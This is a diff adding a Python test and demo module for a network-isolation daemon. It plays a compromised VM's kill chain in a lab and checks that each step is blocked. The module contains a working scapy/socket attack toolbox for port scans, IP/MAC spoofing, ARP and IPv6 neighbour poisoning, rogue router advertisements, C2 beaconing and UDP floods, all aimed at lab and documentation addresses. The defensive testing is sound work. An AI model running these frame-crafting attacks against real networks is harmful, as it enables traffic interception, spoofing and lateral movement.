@@ -1,0 +1,424 @@
+"""The kill chain of a compromised VM, played from inside lab VM agent1 (zone sandbox) against a
+running skyguard daemon: recon scans, lateral movement, IP/MAC spoofing, ARP and ND poisoning, a
+rogue router advertisement, C2 beaconing, hard-coded internet IPs, DoT, the metadata service.
+
+What it is for: `skyguard demo --attack` (a viewer watches each step being blocked, with the
+reason the datapath counted) and tests/adversarial (which assert the same). Each step runs a
+small scapy or socket script inside agent1 (frames crafted there, as an attacker with root in the
+VM would), while sniffers in every other VM and in the lab internet count what arrives, and a
+legitimate LDAP session from radius1 to dc1 keeps talking. A step is blocked when nothing of it
+arrived anywhere, the expected drop reason grew in `skyguard status` counters, and (ARP/ND) the
+host's neighbour table was not poisoned.
+
+Not here: building the lab (skyguard.lab) or the daemon (skyguard.daemon); DNS tunnelling, DNS
+bypass and credential exfiltration, which need the DNS proxy and the credential proxy wired into
+the daemon (listed as not covered in the report until they are).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from skyguard import config
+from skyguard.demo import _LISTEN, Demo
+from skyguard.errors import SkyguardError
+
+ATTACKER = "agent1"
+ATTACKER_ZONE = "sandbox"
+MARKER = b"SG-ATTACK-"  # carried by every crafted payload, so sniffers can tell attack from noise
+# Lab addresses of policies/keysystems.yaml (the policy the arena enforces).
+ADDR = {"radius1": ("10.10.1.2", "fd00:10:1::2"), "tacacs1": ("10.10.1.3", "fd00:10:1::3"),
+        "dc1": ("10.10.2.2", "fd00:10:2::2"), "dc2": ("10.10.2.3", "fd00:10:2::3"),
+        "sdnctl1": ("10.10.3.2", "fd00:10:3::2"), "vfw1": ("10.10.4.2", "fd00:10:4::2"),
+        "agent1": ("10.10.5.2", "fd00:10:5::2")}
+MAC = {"dc1": "02:00:00:00:02:02", "radius1": "02:00:00:00:01:02", "agent1": "02:00:00:00:05:02"}
+GATEWAY_V4 = "169.254.1.1"
+# Listeners the chain aims at inside the target VMs (a real service answering, if reached).
+TARGET_PORTS = {"dc1": (22, 135, 389, 445), "radius1": (22,)}
+LEGIT_PORT = 389  # radius1 -> dc1 LDAP: the legitimate session that must not notice anything
+
+# Inside every other VM and the internet: count frames that reach this namespace and come from the
+# attacker (its addresses, a spoofed one carrying MARKER, or its MAC). Stops when stdin closes and
+# prints {"frames": n, "samples": [...]}.
+_SNIFF = r"""
+import json, select, socket, sys
+attacker = {socket.inet_pton(socket.AF_INET, sys.argv[1]), socket.inet_pton(socket.AF_INET6, sys.argv[2])}
+attacker_mac, marker = bytes.fromhex(sys.argv[3].replace(":", "")), sys.argv[4].encode()
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+frames, samples = 0, []
+print("ready", flush=True)
+while True:
+    r, _, _ = select.select([s, sys.stdin], [], [], 0.5)
+    if sys.stdin in r and not sys.stdin.readline():
+        break
+    if s not in r:
+        continue
+    data, addr = s.recvfrom(65535)
+    if addr[2] == socket.PACKET_OUTGOING:
+        continue
+    et = data[12:14]
+    src = data[26:30] if et == b"\x08\x00" else data[22:38] if et == b"\x86\xdd" else b""
+    if src in attacker or marker in data or data[6:12] == attacker_mac:
+        frames += 1
+        if len(samples) < 5:
+            samples.append(data[:80].hex())
+print(json.dumps({"frames": frames, "samples": samples}))
+"""
+
+# Inside radius1: one LDAP-port TCP session to dc1 kept open, a round trip every 50 ms; prints
+# {"ok": n, "failed": n} when stdin closes. A failed round trip reconnects.
+_LEGIT = r"""
+import json, select, socket, sys, time
+host, port = sys.argv[1], int(sys.argv[2])
+ok = failed = 0
+def connect():
+    c = socket.create_connection((host, port), timeout=2); c.settimeout(1.0); return c
+s = connect()
+print("ready", flush=True)
+while True:
+    r, _, _ = select.select([sys.stdin], [], [], 0.05)
+    if r and not sys.stdin.readline():
+        break
+    try:
+        s.sendall(b"ldap-bind"); assert s.recv(64) == b"ldap-bind"; ok += 1
+    except (OSError, AssertionError):
+        failed += 1
+        try: s.close(); s = connect()
+        except OSError: pass
+print(json.dumps({"ok": ok, "failed": failed}))
+"""
+
+# Inside agent1: the attacker's toolbox. argv[1] is the action, the rest its arguments; prints one
+# JSON line {"sent": n, "answered": n}.
+_TOOL = r"""
+import json, socket, sys, time
+import logging; logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
+action, args = sys.argv[1], sys.argv[2:]
+MARK = b"SG-ATTACK-"
+sent = answered = 0
+def tcp_connect(host, port, timeout=0.6):
+    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
+    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(timeout)
+    try: s.connect((host, port)); s.sendall(MARK + b"tcp"); return True
+    except OSError: return False
+    finally: s.close()
+if action == "tcp":          # hosts... -- ports...
+    i = args.index("--"); hosts, ports = args[:i], [int(p) for p in args[i + 1:]]
+    for h in hosts:
+        for p in ports:
+            sent += 1; answered += tcp_connect(h, p)
+elif action == "udp":        # hosts... -- ports...
+    i = args.index("--"); hosts, ports = args[:i], [int(p) for p in args[i + 1:]]
+    for h in hosts:
+        fam = socket.AF_INET6 if ":" in h else socket.AF_INET
+        s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(0.3)
+        for p in ports:
+            s.sendto(MARK + b"udp", (h, p)); sent += 1
+            try: s.recvfrom(100); answered += 1
+            except OSError: pass
+elif action == "beacon":     # host port count interval
+    host, port, count, interval = args[0], int(args[1]), int(args[2]), float(args[3])
+    for _ in range(count):
+        sent += 1; answered += tcp_connect(host, port, timeout=0.4); time.sleep(interval)
+elif action == "flood":      # host port seconds: denied UDP as fast as one core sends it
+    host, port, seconds = args[0], int(args[1]), float(args[2])
+    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
+    s = socket.socket(fam, socket.SOCK_DGRAM); end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        for _ in range(100):
+            s.sendto(MARK + b"flood", (host, port)); sent += 1
+else:                        # crafted frames with scapy
+    from scapy.all import ARP, Ether, IP, IPv6, UDP, TCP, Raw, sendp
+    from scapy.layers.inet6 import (ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr, ICMPv6NDOptPrefixInfo,
+                                    ICMPv6NDOptSrcLLAddr)
+    from scapy.all import get_if_hwaddr
+    me_mac = get_if_hwaddr("eth0")  # an ioctl in this netns (/sys may be another namespace's)
+    gw_mac = "ff:ff:ff:ff:ff:ff"
+    frames = []
+    if action == "spoof-ip-mac":      # victim_mac victim_ip dst_ip dport
+        vmac, vip, dst, dport = args[0], args[1], args[2], int(args[3])
+        frames = [Ether(src=vmac, dst=gw_mac) / IP(src=vip, dst=dst) / UDP(sport=1812, dport=dport) / Raw(MARK + b"spoof")]
+    elif action == "spoof-ip":        # victim_ip dst_ip dport (own MAC)
+        vip, dst, dport = args[0], args[1], int(args[2])
+        l3 = IPv6(src=vip, dst=dst) if ":" in vip else IP(src=vip, dst=dst)
+        frames = [Ether(src=me_mac, dst=gw_mac) / l3 / TCP(sport=40000, dport=dport, flags="S") / Raw(MARK + b"spoof")]
+    elif action == "arp-poison":      # claimed_ip...
+        frames = [Ether(src=me_mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=op, hwsrc=me_mac, psrc=ip, hwdst="ff:ff:ff:ff:ff:ff", pdst=ip)
+                  for ip in args for op in (1, 2)]
+    elif action == "nd-poison":       # claimed_ipv6...
+        frames = [Ether(src=me_mac, dst="33:33:00:00:00:01") / IPv6(src=src, dst="ff02::1") /
+                  ICMPv6ND_NA(tgt=ip, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=me_mac)
+                  for ip in args for src in (ip, "fe80::ff:fe00:502")]
+    elif action == "rogue-ra":
+        frames = [Ether(src=me_mac, dst="33:33:00:00:00:01") / IPv6(src="fe80::ff:fe00:502", dst="ff02::1") /
+                  ICMPv6ND_RA(routerlifetime=1800, prf=1) / ICMPv6NDOptSrcLLAddr(lladdr=me_mac) /
+                  ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)]
+    for f in frames:
+        sendp(f, iface="eth0", verbose=False, count=3); sent += 3
+print(json.dumps({"sent": sent, "answered": answered}))
+"""
+
+
+@dataclass
+class Attack:
+    step: str  # recon, lateral, spoofing, ...
+    title: str
+    argv: list[str]  # arguments of the toolbox (_TOOL)
+    reasons: tuple[str, ...]  # drop reasons that must grow at the sandbox's egress
+    poisoned: list[tuple[int, str]] = field(default_factory=list)  # (family, address): host neighbour must not be agent1's MAC
+    # filled in by play()
+    sent: int = 0
+    answered: int = 0
+    delivered: int = 0
+    counted: dict = field(default_factory=dict)  # reason -> packets dropped during the step
+    neighbour_poisoned: list[str] = field(default_factory=list)
+
+    @property
+    def blocked(self) -> bool:
+        return (self.answered == 0 and self.delivered == 0 and not self.neighbour_poisoned
+                and all(self.counted.get(r, 0) > 0 for r in self.reasons))
+
+
+def kill_chain() -> list[Attack]:
+    others_v4 = [ADDR[v][0] for v in ("radius1", "dc1", "sdnctl1", "vfw1")]
+    others_v6 = [ADDR[v][1] for v in ("radius1", "dc1", "sdnctl1", "vfw1")]
+    dc1_v4, dc1_v6 = ADDR["dc1"]
+    return [
+        Attack("recon", "TCP scan of the other zones (IPv4)", ["tcp", *others_v4, "--", "22", "88", "135", "389",
+                                                                "443", "445", "636", "830", "3389", "5985"],
+               ("policy_deny",)),
+        Attack("recon", "TCP scan of the other zones (IPv6)", ["tcp", *others_v6, "--", "22", "135", "389", "445"],
+               ("policy_deny",)),
+        Attack("recon", "UDP scan of the other zones", ["udp", *others_v4, others_v6[1], "--", "88", "123", "137",
+                                                         "161", "389", "500", "1812"], ("policy_deny",)),
+        Attack("lateral", "SSH to the directory", ["tcp", dc1_v4, dc1_v6, "--", "22"], ("policy_deny",)),
+        Attack("lateral", "SMB to the directory", ["tcp", dc1_v4, dc1_v6, "--", "445"], ("policy_deny",)),
+        Attack("lateral", "LDAP to the directory", ["tcp", dc1_v4, dc1_v6, "--", "389"], ("policy_deny",)),
+        Attack("lateral", "MS-RPC to the directory", ["tcp", dc1_v4, "--", "135"], ("policy_deny",)),
+        Attack("lateral", "SSH to the RADIUS server", ["tcp", ADDR["radius1"][0], "--", "22"], ("policy_deny",)),
+        Attack("spoofing", "frames with the directory's MAC and IP toward RADIUS",
+               ["spoof-ip-mac", MAC["dc1"], dc1_v4, ADDR["radius1"][0], "1812"], ("spoof_mac",)),
+        Attack("spoofing", "the RADIUS server's IPv4 address with its own MAC",
+               ["spoof-ip", ADDR["radius1"][0], dc1_v4, "389"], ("spoof_ip",)),
+        Attack("spoofing", "the RADIUS server's IPv6 address with its own MAC",
+               ["spoof-ip", ADDR["radius1"][1], dc1_v6, "389"], ("spoof_ip",)),
+        Attack("arp", "gratuitous ARP claiming the gateway and the directory",
+               ["arp-poison", GATEWAY_V4, dc1_v4], ("arp_spoof",), poisoned=[(4, dc1_v4)]),
+        Attack("nd", "unsolicited neighbour advertisements for the directory's IPv6 address",
+               ["nd-poison", dc1_v6], ("nd_spoof",), poisoned=[(6, dc1_v6)]),
+        Attack("ra", "rogue router advertisement (a default route and a prefix)", ["rogue-ra"], ("nd_forbidden",)),
+        Attack("c2", "C2 beacon to an unlisted address (every 0.2 s)", ["beacon", "198.51.100.99", "8443", "5", "0.2"],
+               ("no_rule",)),
+        Attack("c2", "C2 over UDP to an unlisted address", ["udp", "198.51.100.99", "--", "4444", "443"], ("no_rule",)),
+        Attack("internet", "hard-coded internet IPs (HTTP, HTTPS)", ["tcp", "192.0.2.80", "2001:db8::80", "203.0.113.66",
+                                                                    "--", "80", "443"], ("no_rule",)),
+        Attack("dns-bypass", "DNS over TLS to an unlisted resolver", ["tcp", "198.51.100.53", "2001:db8::853", "--", "853"],
+               ("no_rule",)),
+        Attack("internet", "the cloud metadata service", ["tcp", "169.254.169.254", "--", "80"], ("policy_deny",)),
+    ]
+
+
+# Steps the issue asks for that need the DNS proxy / credential proxy in the daemon.
+NOT_YET_COVERED = [
+    ("dns-bypass", "DNS to a foreign resolver (udp/53, tcp/53), DoH to an unlisted address"),
+    ("dns-tunnel", "DNS tunnelling through long random labels"),
+    ("exfiltration", "a real secret value over allowed HTTPS; a placeholder toward an attacker host"),
+]
+
+
+class Arena(Demo):
+    """The lab of policies/keysystems.yaml with the daemon in its host namespace and throwaway
+    state, run dir and pins; sniffers and the legitimate session on demand. Reuses Demo's daemon
+    start, control and teardown machinery."""
+
+    def __init__(self, prefix: str | None = None, workdir: Path | None = None, console=None, progress=None):
+        super().__init__(console=console)
+        if workdir is not None:
+            self.workdir = Path(workdir)
+            self.env.update(SKYGUARD_STATE_DIR=str(self.workdir / "state"), SKYGUARD_RUN_DIR=str(self.workdir / "run"))
+        self.prefix = config.LAB_PREFIX if prefix is None else prefix
+        self.env["SKYGUARD_PIN_DIR"] = str(config.PIN_DIR.parent / f"skyguard-arena-{os.getpid()}")
+        self.progress = progress or (lambda m: None)
+        self.sniffers: dict[str, subprocess.Popen] = {}
+        self.daemon_restarts = 0
+
+    # ---- lifecycle ----------------------------------------------------------------------------
+    def up(self) -> None:
+        from skyguard.lab import Lab
+
+        self.lab = Lab(policy_path=config.DEFAULT_POLICY, prefix=self.prefix, lab_dir=self.workdir / "lab",
+                       progress=self.progress)
+        self.lab.up()
+        self.start_daemon()
+        for vm, ports in TARGET_PORTS.items():
+            for port in ports:
+                self.helpers.append(self.lab.popen(vm, [sys.executable, "-c", _LISTEN, str(port)],
+                                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
+        time.sleep(0.5)
+
+    def down(self) -> None:
+        self.stop_sniffers()
+        self.teardown()
+        subprocess.run(["rm", "-rf", self.env["SKYGUARD_PIN_DIR"]])
+
+    def start_daemon(self) -> None:
+        """Start `skyguard up` in the lab host (no mount namespace in between, so the Popen pid is
+        the daemon's and kill_daemon() hits it) and wait until it answers."""
+        log_path = self.workdir / "daemon.log"
+        self.workdir.mkdir(parents=True, exist_ok=True)
+        self.daemon = self.lab.popen(
+            "host", [sys.executable, "-m", "skyguard.cli.main", "up", "--policy", str(config.DEFAULT_POLICY),
+                     "--metrics", "off"], lab_resolver=False,
+            env=self.env, stdout=open(log_path, "a"), stderr=subprocess.STDOUT)
+        deadline = time.monotonic() + 120
+        while time.monotonic() < deadline:
+            if self.daemon.poll() is not None:
+                raise SkyguardError(f"the daemon exited at start; its log: {log_path}")
+            if self.skyguard("status", "--json").returncode == 0:
+                return
+            time.sleep(0.2)
+        raise SkyguardError(f"the daemon did not answer within 120 s; its log: {log_path}")
+
+    def kill_daemon(self) -> None:
+        """SIGKILL: no shutdown code runs; the pinned programs keep enforcing."""
+        os.kill(self.daemon.pid, signal.SIGKILL)
+        self.daemon.wait()
+        self.daemon_restarts += 1
+
+    def log_verify(self) -> subprocess.CompletedProcess:
+        return self.skyguard("log", "verify")
+
+    # ---- observers ----------------------------------------------------------------------------
+    def start_sniffers(self, members=("radius1", "tacacs1", "dc1", "dc2", "sdnctl1", "vfw1", "internet")) -> None:
+        for name in members:
+            p = self.lab.popen(name, [sys.executable, "-c", _SNIFF, *ADDR[ATTACKER], MAC[ATTACKER], MARKER.decode()],
+                               lab_resolver=False, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+            assert p.stdout.readline().strip() == "ready"
+            self.sniffers[name] = p
+
+    def stop_sniffers(self) -> dict[str, dict]:
+        """{member: {"frames": n, "samples": [...]}} of what each sniffer counted."""
+        out = {}
+        for name, p in self.sniffers.items():
+            try:
+                stdout, _ = p.communicate("", timeout=10)
+                out[name] = json.loads(stdout.strip().splitlines()[-1])
+            except (subprocess.TimeoutExpired, ValueError, IndexError):
+                p.kill()
+                out[name] = {"frames": -1, "samples": ["sniffer failed"]}
+        self.sniffers = {}
+        return out
+
+    def start_legit(self) -> subprocess.Popen:
+        p = self.lab.popen("radius1", [sys.executable, "-c", _LEGIT, ADDR["dc1"][0], str(LEGIT_PORT)],
+                           lab_resolver=False, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+        line = p.stdout.readline().strip()
+        if line != "ready":
+            p.kill()
+            raise SkyguardError("the legitimate radius1 -> dc1:389 session could not start (is dc1 listening?)")
+        return p
+
+    @staticmethod
+    def stop_legit(p: subprocess.Popen) -> dict:
+        stdout, _ = p.communicate("", timeout=10)
+        return json.loads(stdout.strip().splitlines()[-1])
+
+    def sandbox_drops(self) -> dict[str, int]:
+        counters = self.control("status")["counters"]
+        return {d["reason"]: d["packets"] for d in counters["drops"]
+                if d["zone"] == ATTACKER_ZONE and d["direction"] == "egress"}
+
+    def host_neighbour_macs(self, family: int, address: str) -> set[str]:
+        """Link-layer addresses the lab host's neighbour table holds for `address` (any interface)."""
+        done = self.lab.exec("host", ["ip", f"-{family}", "neigh", "show", address], lab_resolver=False,
+                             capture_output=True, text=True)
+        words = done.stdout.split()
+        return {words[i + 1] for i, w in enumerate(words[:-1]) if w == "lladdr"}
+
+    # ---- the chain ----------------------------------------------------------------------------
+    def play(self, attacks: list[Attack] | None = None, on_step=None) -> dict:
+        """Run every attack from agent1 with sniffers everywhere else and the legitimate session
+        running. Returns {"attacks": [...], "legit": {"ok", "failed"}, "sniffed": {...}}."""
+        attacks = kill_chain() if attacks is None else attacks
+        self.start_sniffers()
+        legit = self.start_legit()
+        try:
+            for attack in attacks:
+                before = self.sandbox_drops()
+                done = self.lab.exec(ATTACKER, [sys.executable, "-c", _TOOL, *attack.argv], lab_resolver=False,
+                                     capture_output=True, text=True, env=dict(os.environ, PYTHONPATH=str(config.REPO_ROOT)))
+                try:
+                    result = json.loads(done.stdout.strip().splitlines()[-1])
+                except (ValueError, IndexError):
+                    raise SkyguardError(f"attack tool failed for {attack.title!r}: {done.stderr[-800:]}") from None
+                attack.sent, attack.answered = result["sent"], result["answered"]
+                time.sleep(0.2)  # let the last frames land before counting
+                after = self.sandbox_drops()
+                attack.counted = {r: after[r] - before.get(r, 0) for r in after if after[r] > before.get(r, 0)}
+                for family, address in attack.poisoned:
+                    if MAC[ATTACKER] in self.host_neighbour_macs(family, address):
+                        attack.neighbour_poisoned.append(address)
+                if on_step:
+                    on_step(attack)
+        finally:
+            legit_result = self.stop_legit(legit)
+            sniffed = self.stop_sniffers()
+        # Sniffers run through the whole chain: whatever arrived is charged to every step's total
+        # (the goal is zero, so any arrival fails the run).
+        arrived = sum(max(0, s["frames"]) for s in sniffed.values())
+        for attack in attacks:
+            attack.delivered = arrived
+        return {"attacks": attacks, "legit": legit_result, "sniffed": sniffed}
+
+
+def run_attack_demo(console=None) -> int:
+    """`skyguard demo --attack`: build the arena, play the kill chain for a viewer, verify the log."""
+    from rich.console import Console
+    from rich.table import Table
+
+    console = console or Console()
+    arena = Arena(workdir=Path(tempfile.mkdtemp(prefix="skyguard-attack-")), console=console,
+                  progress=lambda m: console.print(f"   [dim]{m}[/]"))
+    try:
+        console.print("[bold]1. Building the lab and starting skyguard[/] with policies/keysystems.yaml")
+        arena.up()
+        console.print(f"[bold]2. Agent1 (zone {ATTACKER_ZONE}) is compromised.[/] Its kill chain, while radius1 "
+                      f"keeps an LDAP session to dc1:")
+
+        def on_step(a: Attack) -> None:
+            why = ", ".join(f"{r} x{n}" for r, n in sorted(a.counted.items())) or "nothing counted"
+            mark = "[green]blocked[/]" if (a.answered == 0 and not a.neighbour_poisoned) else "[bold red]GOT THROUGH[/]"
+            console.print(f"   {mark} {a.step:10} {a.title} [dim]({a.sent} sent; dropped: {why})[/]")
+
+        result = arena.play(on_step=on_step)
+        table = Table(title="Kill chain from agent1")
+        for col in ("step", "attempt", "sent", "answered", "drop reasons"):
+            table.add_column(col)
+        for a in result["attacks"]:
+            table.add_row(a.step, a.title, str(a.sent), str(a.answered),
+                          ", ".join(f"{r} x{n}" for r, n in sorted(a.counted.items())))
+        console.print(table)
+        arrived = {k: v["frames"] for k, v in result["sniffed"].items() if v["frames"]}
+        console.print(f"   frames of the attacker that reached another VM or the internet: "
+                      f"{sum(arrived.values())} {arrived or ''}")
+        console.print(f"   legitimate radius1 -> dc1:389 session: {result['legit']['ok']} round trips ok, "
+                      f"{result['legit']['failed']} failed")
+        for step, what in NOT_YET_COVERED:
+            console.print(f"   [yellow]not yet covered[/] {step}: {what}")
+        console.print("[bold]3. Verifying the signed log[/]")
+        verified = arena.log_verify()
+        console.print("   " + (verified.stdout.strip() or verified.stderr.strip()))
+        ok = all(a.blocked for a in result["attacks"]) and result["legit"]["failed"] == 0 and verified.returncode == 0
+        console.print("[bold green]attack demo ok[/]: every step blocked, legitimate traffic untouched"
+                      if ok else "[bold red]attack demo FAILED[/]")
+        return 0 if ok else 1
+    finally:
+        arena.down()
